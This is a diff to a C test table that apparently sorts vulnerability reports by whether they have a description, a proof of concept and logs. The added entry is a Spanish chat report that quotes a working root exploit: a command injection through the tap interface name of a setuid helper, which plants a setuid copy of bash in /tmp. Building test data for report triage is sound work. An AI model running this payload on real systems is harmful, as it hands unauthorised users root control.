@@ -8,6 +8,13 @@ static const struct {
 	const char *body;
 	int description, poc, logs;   /* -1: do not care */
 } checks[] = {
+	/* (3573) a helper run by its full path with a subcommand, and the
+	 * program it dropped in /tmp, pasted from a chat: the steps */
+	{ "El helper setuid arma el comando de ip con el nombre de la interfaz tap a trav\u00e9s de sh -c, sin "
+	  "validar nada. Cualquier usuario local puede meter un ; en el nombre y ejecutar lo que quiera como root.\n\n"
+	  "Mart\u00edn Sosa\nprob\u00e1 con un usuario com\u00fan\nMart\u00edn Sosa\n"
+	  "/usr/lib/microsandbox/msb-netd-helper tap-create --name 'x;cp /bin/bash /tmp/rb;chmod 4755 /tmp/rb'\n"
+	  "/tmp/rb -p\nMart\u00edn Sosa\ny listo, te da euid=0\n", TRUE, TRUE, -1 },
 	/* (3549) a loop in a background subshell is a step, and a ticket's
 	 * work-note headers (the time and who wrote the note) are no log */
 	{ "msbd checks the volume path and then opens it again as root, so a symlink swapped in between "
